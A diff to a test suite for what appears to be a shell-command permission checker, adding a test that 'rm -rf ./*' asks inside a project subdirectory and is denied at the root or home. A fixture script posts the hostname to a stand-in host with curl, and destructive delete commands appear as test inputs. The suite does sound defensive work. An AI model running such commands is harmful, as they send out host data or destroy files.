@@ -404,3 +404,18 @@ def test_a_smoke_script_posting_to_the_local_server_is_quiet(machine):
                    "scripts/leak.sh": "#!/usr/bin/env bash\nid=$(hostname)\ncurl -fsS -X POST \"https://x.example/$id\"\n"})
     assert machine.verdict("bash scripts/smoke.sh") == "allow"
     assert machine.verdict("bash scripts/leak.sh") == "ask"
+
+
+def test_emptying_a_named_directory_inside_the_project_asks(machine):
+    """`rm -rf ./*` in a working directory strictly inside a project (target/, build/) empties a named
+    project path: ask. At the project's root, at home or outside any project, it still denies."""
+    machine.write({"dbt_project.yml": "name: analytics\n", "target/compiled/x.sql": "select 1\n"})
+    target = machine.project / "target"
+    for command in ("rm -rf ./*", "rm -rf *"):
+        decision = machine.judge(command, cwd=target)
+        assert decision.verdict.value == "ask", command
+        assert "named path inside the project" in decision.reason
+    assert machine.verdict("rm -rf ./*") == "deny"  # the project's root
+    assert machine.verdict("rm -rf ./*", cwd=machine.home) == "deny"
+    (machine.home / "loose").mkdir()
+    assert machine.verdict("rm -rf ./*", cwd=machine.home / "loose") == "deny"  # no project above it
